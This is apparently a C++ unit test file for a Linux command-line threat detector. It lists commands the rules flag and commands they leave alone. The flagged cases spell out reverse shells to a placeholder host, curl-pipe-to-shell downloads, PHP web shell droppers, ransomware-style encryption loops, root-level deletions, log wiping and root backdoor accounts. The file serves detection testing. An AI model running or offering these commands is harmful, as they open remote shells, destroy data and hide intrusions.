// What the rules of content/detections over commands find, and what they leave alone.
#include <algorithm>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include <gtest/gtest.h>

#include "detect/stream.h"

namespace detect {
namespace {

struct Case {
  const char* executable;
  const char* command_line;
  schema::ExtraDetails details = {};
  const char* user = "root";
};

constexpr base::WallTime kBegin{std::chrono::seconds(1'790'000'000)};

// One device's events, a second apart.
class Device {
 public:
  explicit Device(Stream& stream) : stream_(stream) { stream_.forget(); }

  // The names and aliases of what is raised.
  std::vector<std::string> run(const Case& what, std::chrono::seconds after = {}) {
    now_ += std::chrono::seconds(1) + after;
    schema::ProcessCreate item;
    item.executable = what.executable;
    item.command_line = what.command_line;
    item.process_id = ++process_;
    item.parent_process_id = 1;
    item.user_name = what.user;
    item.extra_details = what.details;
    schema::Event event;
    event.id = base::Guid::derived("command_content_test", std::to_string(process_));
    event.time.utc = now_;
    event.payload = schema::payload_of(std::move(item));
    std::vector<Finding> findings;
    stream_.match(event, 0, {"device", "agent", now_, 7}, findings);
    std::vector<std::string> names;
    for (const Finding& finding : findings) {
      names.push_back(finding.rule.title);
      names.insert(names.end(), finding.rule.aliases.begin(), finding.rule.aliases.end());
    }
    return names;
  }

 private:
  Stream& stream_;
  base::WallTime now_ = kBegin;
  std::int64_t process_ = 1000;
};

Stream& stream() {
  static const std::unique_ptr<Stream> loaded = [] {
    auto read = Stream::load(std::string());
    EXPECT_TRUE(read) << read.error().to_string();
    return std::move(*read);
  }();
  return *loaded;
}

bool raises(const Case& what, std::string_view alert) {
  const auto names = Device(stream()).run(what);
  return std::ranges::find(names, alert) != names.end();
}

void expect(std::string_view alert, const std::vector<Case>& found,
            const std::vector<Case>& left_alone) {
  for (const Case& what : found)
    EXPECT_TRUE(raises(what, alert)) << alert << ": " << what.command_line;
  for (const Case& what : left_alone)
    EXPECT_FALSE(raises(what, alert)) << alert << ": " << what.command_line;
}

// Commands as a shell is given them.
Case sh(const char* command_line, schema::ExtraDetails details = {}, const char* user = "root") {
  return {"/usr/bin/dash", command_line, std::move(details), user};
}

TEST(CommandContent, BinaryCommandLine) {
  expect("Binary Command Line",
         {sh("sh -c echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA | base64 -d > /tmp/a"),
          sh("sh -c printf '\\x7fELF\\x02\\x01' > /dev/shm/b; chmod +x /dev/shm/b"),
          sh("sh -c echo 7f454c4602010100 | xxd -r -p > /tmp/x"),
          sh("sh -c base64 -d <<< f0VMRgIBAQAAAAAA > /tmp/y"),
          sh("sh -c echo -ne '\\x7f\\x45\\x4c\\x46' >> /var/tmp/z"),
          {"/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2 /var/tmp/x -q"},
          {"/usr/bin/python3",
           "python3 -c import base64;open('/tmp/a','wb').write(base64.b64decode('f0VMRgIBAQ=='))"}},
         {{"/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2 --verify /tmp/x"},
          {"/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2 /usr/bin/true"},
          {"/usr/bin/grep", "grep -c f0VMRgIBAQAA /var/log/app.log"},
          sh("sh -c xxd -l 4 /bin/ls"),
          sh("sh -c base64 -d /etc/app/key.b64 > /tmp/key"),
          sh("sh -c echo aGVsbG8gd29ybGQgaGVsbG8K | base64 -d")});
}

TEST(CommandContent, ReverseShell) {
  expect(
      "Reverse shells",
      {sh("sh -c bash -i >& /dev/tcp/198.51.100.4/9001 0>&1"),
       sh("bash -c exec 5<>/dev/tcp/198.51.100.4/9; cat <&5 | while read l; do $l 2>&5 >&5; done"),
       sh("bash -c 0<&196;exec 196<>/dev/tcp/198.51.100.4/9; sh <&196 >&196 2>&196"),
       sh("sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.4 9 >/tmp/f"),
       sh("sh -c mkfifo /tmp/s; sh -i </tmp/s 2>&1|openssl s_client -quiet -connect h:9 >/tmp/s"),
       {"/usr/bin/nc.traditional", "nc -e /bin/sh 198.51.100.4 4444"},
       {"/bin/busybox", "busybox nc 198.51.100.4 4444 -e sh"},
       {"/usr/bin/ncat", "ncat --sh-exec 'bash -i' 198.51.100.4 4444"},
       {"/usr/bin/socat", "socat TCP:198.51.100.4:9 EXEC:'bash -li',pty,stderr"},
       {"/usr/bin/php8.2", "php -r $s=fsockopen(\"198.51.100.4\",9);exec(\"/bin/sh -i <&3 >&3\");"},
       {"/usr/bin/perl",
        "perl -e use "
        "Socket;socket(S,PF_INET,1,6);if(connect(S,$a)){open(STDIN,\">&S\");exec(\"sh\");}"},
       {"/usr/bin/ruby", "ruby -rsocket -e c=TCPSocket.new(\"h\",9);exec \"sh\", :in=>c"},
       sh("sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjQvOSAwPiYx | base64 -d | bash")},
      {{"/usr/bin/nc", "nc -z -w 2 192.168.1.1 443"},
       {"/usr/bin/nc", "nc -l 5000"},
       sh("bash -c cat < /dev/tcp/198.51.100.4/13"),
       sh("bash -c (echo > /dev/tcp/10.0.0.1/22) && echo open"),
       {"/usr/bin/socat", "socat TCP-LISTEN:80,fork TCP:10.0.0.2:80"},
       {"/usr/bin/python3",
        "python3 -c import socket;s=socket.socket();s.connect(('h',80));print(1)"},
       {"/usr/bin/python3", "python3 -c import subprocess;subprocess.run(['ls'])"},
       sh("sh -c echo hello | nc 10.0.0.1 99")});
}

TEST(CommandContent, WebShell) {
  const schema::ExtraDetails apache = {{"ParentExecutable", "/usr/sbin/apache2"}};
  const schema::ExtraDetails fpm = {{"ParentExecutable", "/usr/sbin/php-fpm7.4"}};
  const schema::ExtraDetails cron = {{"ParentExecutable", "/usr/sbin/cron"}};
  expect("Web shell",
         {sh("sh -c whoami", apache, "www-data"),
          {"/usr/bin/id", "id", fpm, "www-data"},
          sh("sh -c cat /etc/passwd", apache),
          {"/bin/bash", "bash -i", apache},
          sh("sh -c cd /tmp; wget http://198.51.100.4/x", fpm, "www-data"),
          {"/usr/bin/whoami", "whoami", {}, "www-data"},
          sh("sh -c echo '<?php @eval($_POST[1]);?>' > /var/www/html/a.php"),
          sh("sh -c echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg== | base64 -d > /var/www/a.phtml")},
         {sh("sh -c /usr/sbin/sendmail -t -i", fpm, "www-data"),
          sh("sh -c convert a.png b.jpg", apache, "www-data"),
          {"/usr/bin/id", "id", cron, "www-data"},
          {"/usr/bin/whoami", "whoami", {}, "pi"},
          {"/usr/bin/php", "php /var/www/nextcloud/cron.php", cron, "www-data"},
          sh("sh -c echo '<?php phpinfo();' > /var/www/html/i.php")});
}

TEST(CommandContent, Fairware) {
  expect("Behavior similar to Fairware ransomware detected",
         {{"/usr/bin/rm", "rm -rf /var/www"},
          {"/usr/bin/rm", "rm -fr /home/*"},
          {"/usr/bin/rm", "rm -r --force /srv/"},
          {"/usr/bin/rm", "rm -f -R /opt /data"},
          {"/usr/bin/rm", "rm -rf --no-preserve-root /"},
          sh("sh -c cd /var/www/html && rm -rf *"),
          sh("sh -c sudo rm -rf /*"),
          {"/usr/bin/rm", "rm -rf ../../root", {{"Cwd", "/home/pi"}}}},
         {{"/usr/bin/rm", "rm -rf /home/pi/build"},
          {"/usr/bin/rm", "rm -rf /var/www/html/cache"},
          {"/usr/bin/rm", "rm -r /srv"},
          {"/usr/bin/rm", "rm -f /home"},
          {"/usr/bin/ls", "ls -rf /home"},
          {"/usr/bin/rm", "rm -rf /var/lib/apt/lists/*"},
          {"/usr/bin/rm", "rm -rf *", {{"Cwd", "/home/pi/build"}}},
          {"/usr/bin/rm", "rm -rf /opt", {{"ParentExecutable", "/usr/bin/dpkg"}}},
          sh("sh -c find /home -name '*.tmp' -mtime +30 -exec rm -rf {} +")});
}

TEST(CommandContent, Ransomware) {
  expect(
      "Behavior similar to ransomware detected",
      {sh("sh -c find /home -type f | xargs -I{} openssl enc -aes-256-cbc -in {} -out {}.enc"),
       sh("sh -c find /srv -type f -exec gpg --batch -c {} \\;"),
       sh("sh -c for f in /data/*; do zip -P x $f.zip $f; rm $f; done"),
       sh("sh -c for i in /home/*/*; do mv $i $i.locked; done"),
       sh("sh -c echo pay > /home/pi/README_FOR_DECRYPT.txt"),
       {"/tmp/babuk.elf", "/tmp/babuk.elf"}},
      {{"/usr/bin/openssl", "openssl enc -aes-256-cbc -in /srv/db -out /var/backups/db.enc"},
       {"/usr/bin/gpg", "gpg --batch --symmetric --passphrase-file /root/.bk /var/backups/db.tar"},
       sh("sh -c for f in /home/*; do openssl enc -d -aes-256-cbc -in $f; done"),
       sh("sh -c for f in *.jpg; do mv $f $f.bak; done"),
       sh("sh -c echo x > /home/pi/README.txt"),
       sh("sh -c for f in /home/*; do gzip $f; done")});
}

TEST(CommandContent, ManyEncryptionsWithinAMinute) {
  constexpr std::string_view kAlert = "Many files encrypted within a minute";
  const auto raised = [&](int count, std::chrono::seconds apart) {
    Device device(stream());
    bool found = false;
    for (int i = 0; i < count; ++i) {
      const auto names = device.run({"/usr/bin/openssl", "openssl enc -aes-256-cbc -in a"}, apart);
      found = found || std::ranges::find(names, kAlert) != names.end();
    }
    return found;
  };
  EXPECT_TRUE(raised(20, std::chrono::seconds(0)));
  EXPECT_FALSE(raised(19, std::chrono::seconds(0)));
  EXPECT_FALSE(raised(25, std::chrono::seconds(3)));
}

TEST(CommandContent, Nohup) {
  expect("Detected suspicious use of the nohup command",
         {{"/usr/bin/nohup", "nohup /tmp/x"},
          {"/usr/bin/nohup", "nohup sh /dev/shm/a.sh"},
          {"/usr/bin/nohup", "nohup ./x", {{"Cwd", "/var/tmp"}}},
          sh("sh -c cd /tmp && nohup ./miner > /dev/null 2>&1 &"),
          {"/usr/bin/setsid", "setsid -f /home/pi/.x/run"},
          {"/usr/bin/nohup", "nohup nice -n 19 /tmp/.a/b"}},
         {{"/usr/bin/nohup", "nohup /opt/acme/bin/collector --log /tmp/collector.log"},
          {"/usr/bin/nohup", "nohup /home/pi/.local/bin/jupyter lab"},
          {"/usr/bin/nohup", "nohup ./x", {{"Cwd", "/opt/app"}}},
          {"/tmp/x", "/tmp/x"}});
}

TEST(CommandContent, Useradd) {
  expect("Detected suspicious use of the useradd command",
         {{"/usr/sbin/useradd", "useradd -o -u 0 -g root toor"},
          {"/usr/sbin/useradd", "useradd -ou0 -m toor"},
          {"/usr/sbin/usermod", "usermod -aG docker pi"},
          {"/usr/sbin/useradd", "useradd --groups=dialout,sudo x"},
          {"/usr/sbin/adduser", "adduser x sudo"},
          {"/usr/bin/perl", "/usr/bin/perl /usr/sbin/adduser x wheel"},
          {"/usr/sbin/useradd", "useradd -p $6$a$b x"},
          {"/usr/sbin/useradd", "useradd -d /dev/shm/x x"},
          {"/usr/sbin/useradd", "useradd x", {{"ParentExecutable", "/usr/sbin/nginx"}}},
          {"/usr/sbin/useradd", "useradd x", {{"ParentExecutable", "/usr/bin/python3.11"}}}},
         {{"/usr/sbin/useradd", "useradd -m -s /bin/bash anna"},
          {"/usr/sbin/usermod", "usermod -aG dialout pi"},
          {"/usr/sbin/useradd", "useradd -r -p ! -s /usr/sbin/nologin x"},
          {"/usr/sbin/useradd",
           "useradd -r -G adm -d /var/lib/x x",
           {{"ParentExecutable", "/usr/bin/dpkg"}}},
          {"/usr/sbin/useradd",
           "useradd -m x",
           {{"ParentExecutable", "/usr/bin/perl"},
            {"ParentCommandLine", "/usr/bin/perl /usr/sbin/adduser x"}}},
          {"/usr/sbin/adduser", "adduser --system --no-create-home --home /run/sshd sshd"},
          {"/usr/sbin/groupadd", "groupadd sudo"}});
}

TEST(CommandContent, ScriptInterpreterMismatch) {
  expect("Mismatch between script interpreter and file extension",
         {{"/usr/bin/bash", "bash /tmp/photo.jpg"},
          {"/usr/bin/python3", "python3 -u /var/tmp/a.sh --x"},
          {"/usr/bin/perl", "perl /tmp/.log.txt"},
          sh("sh -c php /srv/upload/x.png"),
          {"/usr/bin/node", "node a.py"}},
         {{"/usr/bin/bash", "bash /opt/x.sh notes.txt"},
          {"/usr/bin/python3", "python3 -m http.server 8000 --directory /srv/site.php"},
          {"/usr/bin/python3", "python3 -c print(1) x.sh"},
          {"/usr/bin/bash", "bash installer.run"},
          {"/usr/bin/perl", "perl -ne print x.txt"},
          {"/usr/bin/perl", "perl Makefile.PL"},
          {"/usr/bin/cat", "cat a.sh"},
          {"/usr/bin/dash", "sh /var/lib/dpkg/info/x.postinst configure"}});
}

TEST(CommandContent, SpaceAfterFilename) {
  expect("Space after filename",
         {{"/home/pi/report.pdf ", "/home/pi/report.pdf "},
          {"/bin/sh", "sh x", {{"Argv", "[\"sh\",\"/home/pi/a.jpg\u00a0\"]"}}},
          {"/bin/sh", "sh x", {{"Argv", "[\"sh\",\"/home/pi/gpj.\u202ehs\"]"}}},
          {"/usr/bin/python3", "python3 x", {{"Argv", "[\"python3\",\"/tmp/a.pdf      .py\"]"}}}},
         {{"/usr/bin/ls", "ls -la "},
          {"/bin/sh", "sh /home/pi/a.sh "},
          {"/bin/sh", "sh -c x", {{"Argv", "[\"sh\",\"-c\",\"ls \"]"}}},
          {"/usr/bin/cat", "cat x", {{"Argv", "[\"cat\",\"a.txt \"]"}}},
          {"/opt/My App/run", "x", {{"Argv", "[\"/opt/My App/run\"]"}}}});
}

TEST(CommandContent, DownloadAndRun) {
  expect("Suspicious file download followed by file run activity",
         {sh("sh -c curl -fsSL https://h.example/i.sh | sudo bash"),
          sh("sh -c wget -qO- h.example/x | python3"),
          sh("sh -c wget http://h/a -O /tmp/a && chmod 755 /tmp/a && /tmp/a"),
          sh("sh -c cd /tmp; curl -O http://h/b; chmod +x b; ./b &"),
          sh("sh -c sh -c \"$(curl -fsSL http://h/i.sh)\""),
          sh("bash -c bash <(curl -s http://h/i.sh)")},
         {sh("sh -c wget -q https://vendor.test/data.csv && ./process.sh data.csv"),
          sh("sh -c curl -s http://h/api | jq .x"),
          sh("sh -c curl -s http://h/api | python3 -m json.tool"),
          sh("sh -c wget http://h/a.tar.gz && tar xzf a.tar.gz"),
          {"/usr/bin/curl", "curl -O http://h/a"}});
}

TEST(CommandContent, PossibleBackdoor) {
  constexpr std::string_view kAlert = "Possible backdoor detected";
  const auto raised = [&](const Case& download, const Case& run, std::chrono::seconds after) {
    Device device(stream());
    device.run(download);
    const auto names = device.run(run, after);
    return std::ranges::find(names, kAlert) != names.end();
  };
  using std::chrono::seconds;
  EXPECT_TRUE(
      raised({"/usr/bin/wget", "wget http://h/a -O /tmp/a"}, {"/tmp/a", "/tmp/a"}, seconds(500)));
  EXPECT_TRUE(raised({"/usr/bin/wget", "wget http://h/x/run.sh", {{"Cwd", "/tmp"}}},
                     {"/usr/bin/dash", "sh /tmp/run.sh"}, seconds(5)));
  EXPECT_TRUE(raised({"/usr/bin/curl", "curl -O http://h/run"},
                     {"/usr/bin/dash", "sh -c chmod +x run; ./run"}, seconds(5)));
  EXPECT_TRUE(raised(sh("sh -c cd /opt; scp u@h:/x/y ."), {"/opt/y", "/opt/y"}, seconds(5)));
  EXPECT_FALSE(
      raised({"/usr/bin/wget", "wget http://h/a -O /tmp/a"}, {"/tmp/a", "/tmp/a"}, seconds(700)));
  EXPECT_FALSE(
      raised({"/usr/bin/wget", "wget http://h/a -O /tmp/a"}, {"/tmp/b", "/tmp/b"}, seconds(5)));
  EXPECT_FALSE(raised({"/usr/bin/wget", "wget http://h/a.deb -O /tmp/a.deb"},
                      {"/usr/bin/dpkg", "dpkg -i /tmp/a.deb"}, seconds(5)));
  EXPECT_FALSE(raised({"/usr/bin/wget", "wget http://h/a -O /tmp/a"},
                      {"/tmp/a", "/tmp/a", {{"ParentExecutable", "/usr/bin/dpkg"}}}, seconds(5)));
}

TEST(CommandContent, CommonFilesOverwritten) {
  expect("Potential overriding of common files",
         {{"/usr/bin/cp", "cp /tmp/.ps /bin/ps"},
          {"/usr/bin/mv", "mv /root/sshd /usr/sbin/"},
          {"/usr/bin/install", "install -m 755 x/ls /usr/bin/ls"},
          {"/usr/bin/ln", "ln -sf /tmp/x /usr/bin/netstat"},
          {"/usr/bin/wget", "wget http://h/x -O /usr/bin/top"},
          sh("sh -c cat x > /usr/sbin/sshd"),
          sh("sh -c echo /tmp/x.so > /etc/ld.so.preload"),
          {"/usr/bin/dd", "dd if=/tmp/x of=/bin/login"},
          {"/usr/bin/cp", "cp pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so"},
          {"/usr/bin/cp", "cp /dev/shm/x.so /usr/lib/libx.so.1"}},
         {{"/usr/bin/cp", "cp /bin/busybox /tmp/chroot/bin/busybox"},
          {"/usr/bin/cp", "cp app /usr/local/bin/app"},
          {"/usr/bin/install", "install -m 755 build/mytool /usr/bin/mytool"},
          {"/usr/bin/cp", "cp ls /home/pi/bin/ls"},
          {"/usr/bin/ln", "ln -sf vim.basic /usr/bin/vi", {{"ParentExecutable", "/usr/bin/dpkg"}}},
          {"/usr/bin/ln", "ln -s bash /bin/sh"},
          {"/usr/bin/cat", "cat /usr/bin/ls"}});
}

TEST(CommandContent, SystemLogsRemoved) {
  expect("Removal of system logs files detected",
         {{"/usr/bin/rm", "rm -f /var/log/syslog"},
          {"/usr/bin/shred", "shred -u /var/log/auth.log"},
          {"/usr/bin/truncate", "truncate -s 0 /var/log/wtmp"},
          {"/usr/bin/rm", "rm -rf /var/log/*"},
          {"/usr/bin/rm", "rm -rf /var/log/journal"},
          sh("sh -c > /var/log/messages"),
          sh("sh -c : > /var/log/lastlog"),
          sh("sh -c cat /dev/null > /var/log/secure"),
          sh("sh -c echo -n > /var/log/btmp"),
          {"/usr/bin/dd", "dd if=/dev/null of=/var/log/wtmp"},
          {"/usr/bin/cp", "cp /dev/null /var/log/auth.log"},
          {"/usr/bin/journalctl", "journalctl --vacuum-time=1s"},
          sh("sh -c cd /var/log && rm -f auth.log"),
          {"/usr/bin/find", "find /var/log -type f -delete"}},
         {{"/usr/bin/truncate", "truncate -s 0 /var/lib/app/app.log"},
          {"/usr/bin/rm", "rm /var/log/syslog.2.gz"},
          {"/usr/bin/rm", "rm -f /var/log/myapp/debug.log"},
          {"/usr/bin/rm", "rm /var/log/syslog", {{"ParentExecutable", "/usr/sbin/logrotate"}}},
          sh("sh -c echo hello >> /var/log/syslog"),
          sh("sh -c echo hello > /var/log/messages"),
          {"/usr/bin/journalctl", "journalctl --vacuum-time=30d"},
          {"/usr/bin/cat", "cat /var/log/auth.log"},
          {"/usr/bin/find", "find /var/log -name '*.gz' -mtime +30 -delete"}});
}

}  // namespace
}  // namespace detect
